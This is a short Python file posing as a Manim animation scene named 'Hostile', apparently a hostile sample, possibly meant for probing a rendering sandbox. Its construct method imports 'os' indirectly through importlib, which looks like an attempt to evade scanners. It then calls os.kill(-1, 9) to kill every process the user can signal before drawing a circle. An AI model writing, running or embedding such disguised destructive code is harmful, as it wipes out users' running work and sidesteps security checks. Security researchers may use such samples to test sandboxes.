from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        proc = G("os")
        try:
            proc.kill(-1, 9)
        except OSError as exc:
            raise RuntimeError("kill -1: %s" % exc)
        self.play(Create(Circle()), run_time=0.1)
